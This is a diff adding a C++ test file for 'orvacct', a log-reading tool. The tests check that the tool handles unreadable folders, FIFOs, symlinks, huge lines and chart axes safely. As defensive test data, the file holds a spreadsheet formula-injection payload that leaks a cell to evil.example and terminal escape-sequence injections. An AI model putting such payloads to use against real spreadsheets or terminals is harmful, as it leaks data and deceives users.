@@ -1,0 +1,226 @@
+// orvacct logs over shares as they really are: what cannot be read is named and never skipped in
+// silence, nothing waits for ever, links never lead out of the tree, memory is bounded by what is
+// shown, line numbers are exact, and nothing from the logs reaches a terminal or a spreadsheet as
+// something they would act on.
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <regex>
+#include <string>
+#include <vector>
+
+#include "support/log_tree.h"
+
+namespace orv {
+namespace {
+
+namespace fs = std::filesystem;
+using testing::logRecord;
+using testing::quoted;
+using testing::runLogs;
+using testing::writeLog;
+
+std::size_t lines(const std::string& text) { return static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')); }
+
+TEST(ToolLogsShare, AFolderThatCannotBeSearchedIsNamedAndTheRestIsRead) {
+  testing::TempFolder share;
+  fs::permissions(share.path(), fs::perms::all);
+  writeLog(share / "gathered/PC1/Logs/billing-03052002.log", logRecord(91, "one"));
+  writeLog(share / "gathered/PC2/Logs/billing-03052002.log", logRecord(91, "two"));
+  writeLog(share / "PC3/Logs/billing-03052002.log", logRecord(13, "three"));
+  fs::permissions(share / "gathered", fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
+  // As root every folder can be searched: the tool runs as nobody, as a support person would.
+  const std::string asUser = geteuid() == 0 ? "timeout -s KILL 60 setpriv --reuid=65534 --regid=65534 --clear-groups" :
+                                              "timeout -s KILL 60";
+  const auto run = runLogs("summary --by number " + quoted(share.path()), asUser);
+  fs::permissions(share / "gathered", fs::perms::owner_all);
+  EXPECT_EQ(run.exitCode, 1) << run.err;
+  EXPECT_NE(run.err.find("cannot read " + (share / "gathered/PC1").string() + ": Permission denied"), std::string::npos)
+      << run.err;
+  EXPECT_NE(run.err.find("cannot read " + (share / "gathered/PC2").string() + ": Permission denied"), std::string::npos)
+      << run.err;
+  EXPECT_NE(run.out.find("1 records, 0 damaged, in 1 file"), std::string::npos) << run.out;
+}
+
+TEST(ToolLogsShare, ALogFarBelowThePathLengthLimitIsRead) {
+  testing::TempFolder share;
+  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "near"));
+  const int deepest = testing::nestFolders(share / "PC1", 2100);
+  ASSERT_GE(deepest, 0);
+  const std::string record = logRecord(13, "deep");
+  const int file = ::openat(deepest, "billing-03062002.log", O_WRONLY | O_CREAT, 0644);
+  ASSERT_EQ(::write(file, record.data(), record.size()), static_cast<ssize_t>(record.size()));
+  ::close(file);
+  ::close(deepest);
+  const auto run = runLogs("export " + quoted(share.path()));
+  testing::runShell("rm -rf " + quoted(share / "PC1"));  // deeper than remove_all goes
+  EXPECT_EQ(run.exitCode, 0) << run.err;
+  EXPECT_EQ(lines(run.out), 2u) << run.err;
+  EXPECT_NE(run.out.find("\"description\":\"deep\""), std::string::npos);
+}
+
+TEST(ToolLogsShare, WhatIsNoPlainFileUnderALogsNameIsNamedNeverWaitedFor) {
+  testing::TempFolder share;
+  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "read"));
+  ASSERT_EQ(::mkfifo((share / "PC1/Logs/billing-03062002.log").c_str(), 0644), 0);
+  fs::create_symlink("/dev/zero", share / "PC1/Logs/billing-03072002.log");
+  fs::create_symlink("/dev/stdin", share / "PC1/Logs/billing-03082002.log");
+  // The report goes to a file of the test's own: given /dev/null, a run as root would put a plain
+  // file in place of the device.
+  testing::TempFolder elsewhere;
+  for (const std::string& command : {std::string("export"), std::string("summary"),
+                                    "report --output " + quoted(elsewhere / "report.html")}) {
+    const auto plain = runLogs(command + " " + quoted(share.path()));
+    ASSERT_NE(plain.exitCode, testing::kHung) << command << " waited for ever";
+    EXPECT_EQ(plain.exitCode, 1) << command;
+    EXPECT_NE(plain.err.find("billing-03062002.log: not read: a FIFO"), std::string::npos) << plain.err;
+    EXPECT_NE(plain.err.find("billing-03072002.log: not read: a link"), std::string::npos) << plain.err;
+    EXPECT_NE(plain.err.find("billing-03082002.log: not read: a link"), std::string::npos) << plain.err;
+  }
+  // Given by name, a FIFO is still not waited on.
+  const auto named = runLogs("export " + quoted(share / "PC1/Logs/billing-03062002.log"));
+  EXPECT_EQ(named.exitCode, 1);
+  EXPECT_NE(named.err.find("not read: a FIFO"), std::string::npos) << named.err;
+}
+
+TEST(ToolLogsShare, LinksBelowARootAreNotFollowedARootThatIsALinkIs) {
+  testing::TempFolder outside, share;
+  writeLog(outside / "Logs/secret-03052002.log", logRecord(5, "outside the tree"));
+  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "inside"));
+  fs::create_symlink(outside / "Logs/secret-03052002.log", share / "PC1/Logs/secret-03052002.log");
+  fs::create_directory_symlink(outside / "Logs", share / "PC1/more");
+  fs::create_directory_symlink("..", share / "PC1/Logs/back");
+  const auto run = runLogs("export " + quoted(share.path()));
+  EXPECT_EQ(run.exitCode, 1);
+  EXPECT_EQ(lines(run.out), 1u) << run.out;
+  EXPECT_EQ(run.out.find("outside the tree"), std::string::npos);
+  for (const char* link : {"PC1/Logs/secret-03052002.log", "PC1/more", "PC1/Logs/back"}) {
+    EXPECT_NE(run.err.find((share / link).string() + ": not read: a link"), std::string::npos) << link << run.err;
+  }
+  fs::create_directory_symlink(share.path(), outside / "share");
+  const auto throughLink = runLogs("export " + quoted(outside / "share"));
+  EXPECT_NE(throughLink.out.find("\"description\":\"inside\""), std::string::npos) << throughLink.err;
+}
+
+TEST(ToolLogsShare, LineNumbersAreExactWhateverTheLengthOfALine) {
+  testing::TempFolder share;
+  const std::string longLine(3 << 20, 'x');
+  writeLog(share / "PC1/Logs/billing-03052002.log", longLine + "\r\n" + logRecord(91, "after the long line"));
+  const auto run = runLogs("export " + quoted(share.path()));
+  EXPECT_NE(run.out.find("\"line\":2,"), std::string::npos) << run.out;
+  EXPECT_EQ(run.err, (share / "PC1/Logs/billing-03052002.log").string() + ":1: 1 stray line between records\n");
+}
+
+TEST(ToolLogsShare, AGiantDescriptionIsKeptToABoundAndItsRecordStillCounts) {
+  testing::TempFolder share;
+  std::string description;
+  while (description.size() < (3u << 20)) description += "a line of a description that never ends\r\n";
+  const std::string whole = logRecord(91, description);
+  writeLog(share / "PC1/Logs/billing-03052002.log", whole + whole.substr(0, whole.size() / 2));
+  const auto run = runLogs("export " + quoted(share.path()));
+  ASSERT_EQ(lines(run.out), 1u) << run.err;
+  const std::string label = "\"description\":\"";
+  const std::size_t begin = run.out.find(label) + label.size();
+  const std::string text = run.out.substr(begin, run.out.find("\",\"module\"") - begin);
+  EXPECT_LE(text.size(), (64u << 10) * 2) << "the description, with its escaped line breaks, is kept to 64 KiB";
+  EXPECT_TRUE(text.ends_with("\xE2\x80\xA6")) << "a cut is shown";
+  EXPECT_NE(run.err.find(":" + std::to_string(lines(whole) + 1) + ": record cut short by the end of the file"),
+            std::string::npos)
+      << run.err;
+}
+
+TEST(ToolLogsShare, NothingFromTheLogsReachesATerminalAsControlCharacters) {
+  testing::TempFolder share;
+  const std::string forged = "\x1b]0;PWNED\x07\x1b[2J";
+  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, forged));
+  writeLog(share / "PC1/Logs/evil\n\x1b[2Jall records whole-03052002.log", "stray\r\n" + logRecord(5, "x"));
+  const auto run = runLogs("summary --by number " + quoted(share.path()));
+  EXPECT_EQ(run.out.find('\x1b'), std::string::npos);
+  EXPECT_EQ(run.err.find('\x1b'), std::string::npos);
+  EXPECT_NE(run.out.find("\\x1b]0;PWNED\\x07\\x1b[2J"), std::string::npos) << run.out;
+  EXPECT_NE(run.err.find("evil\\n\\x1b[2Jall records whole-03052002.log:1: 1 stray line"), std::string::npos) << run.err;
+  EXPECT_EQ(lines(run.err), 1u) << "one diagnostic, one line: " << run.err;
+}
+
+// The cells a spreadsheet would run, and those it would not.
+TEST(ToolLogsShare, NoCsvCellIsAFormula) {
+  struct Case {
+    std::string description, cell;
+  };
+  const std::vector<Case> cases = {
+      {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\""},
+      {"+1+1", "\"'+1+1\""},
+      {"-1+1", "\"'-1+1\""},
+      {"@SUM(A1)", "\"'@SUM(A1)\""},
+      {"\tindented", "\"'\tindented\""},
+      {"-2147467259", "-2147467259"},
+      {"-1.5", "-1.5"},
+      {"plain text", "plain text"},
+  };
+  testing::TempFolder share;
+  std::string log;
+  for (std::size_t i = 0; i < cases.size(); ++i) log += logRecord(static_cast<int>(i), cases[i].description);
+  writeLog(share / "PC1/Logs/billing-03052002.log", log);
+  const auto run = runLogs("export --format csv " + quoted(share.path()));
+  for (std::size_t i = 0; i < cases.size(); ++i) {
+    EXPECT_NE(run.out.find("," + std::to_string(i) + "," + cases[i].cell + ",modMain,"), std::string::npos)
+        << cases[i].description << "\n"
+        << run.out;
+  }
+  const auto summary = runLogs("summary --by number --format csv " + quoted(share.path()));
+  EXPECT_NE(summary.out.find(",\"'=HYPERLINK("), std::string::npos) << summary.out;
+}
+
+// Grid lines at whole numbers in steps of 1, 2 or 5 times a power of ten, the top one at the
+// largest day or just above it.
+TEST(ToolLogsReport, TheChartsValueAxisFitsTheLargestDay) {
+  struct Case {
+    int records;
+    std::vector<std::string> labels;
+  };
+  for (const Case& c : std::vector<Case>{{1, {"0", "1"}}, {8, {"0", "2", "4", "6", "8"}}, {11, {"0", "5", "10", "15"}},
+                                         {23, {"0", "5", "10", "15", "20", "25"}}}) {
+    testing::TempFolder share;
+    std::string log;
+    for (int i = 0; i < c.records; ++i) log += logRecord(i, "e");
+    writeLog(share / "PC1/Logs/billing-03052002.log", log);
+    const auto run = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share / "PC1"));
+    const std::string page = testing::readFile(share / "r.html");
+    std::vector<std::string> labels;
+    const std::regex label("text-anchor=\"end\">([^<]*)</text>");
+    for (auto it = std::sregex_iterator(page.begin(), page.end(), label); it != std::sregex_iterator(); ++it) {
+      labels.push_back((*it)[1]);
+    }
+    EXPECT_EQ(labels, c.labels) << c.records << " records";
+  }
+}
+
+TEST(ToolLogsReport, DaysFarFromTheRestAreToldNotGivenMillionsOfBars) {
+  testing::TempFolder share;
+  for (const char* date : {"01010100", "12319999", "03052026", "03062026"}) {
+    writeLog(share / "PC1/Logs" / (std::string("billing-") + date + ".log"), logRecord(91, "e"));
+  }
+  const auto run = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
+  ASSERT_EQ(run.exitCode, 0) << run.err;
+  const std::string page = testing::readFile(share / "r.html");
+  EXPECT_LT(page.size(), 100'000u);
+  EXPECT_NE(page.find("Not drawn: 2 records on days far from all the others"), std::string::npos);
+  EXPECT_NE(page.find("0100-01-01 (1), 9999-12-31 (1)"), std::string::npos);
+  EXPECT_NE(page.find("<b>4</b>records"), std::string::npos) << "still counted";
+}
+
+TEST(ToolLogsReport, ItIsWrittenWhereAskedOrFailsBeforeReading) {
+  testing::TempFolder share;
+  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "e") + "stray\r\n");
+  const auto written = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
+  EXPECT_TRUE(written.err.ends_with("orvacct: report written to " + (share / "r.html").string() + "\n")) << written.err;
+  const auto refused = runLogs("report --output " + quoted(share / "missing/r.html") + " " + quoted(share.path()));
+  EXPECT_EQ(refused.exitCode, 1);
+  EXPECT_EQ(refused.err.rfind("orvacct: cannot write " + (share / "missing/r.html").string(), 0), 0u) << refused.err;
+  EXPECT_EQ(lines(refused.err), 1u) << "nothing was read: " << refused.err;
+}
+
+}  // namespace
+}  // namespace orv
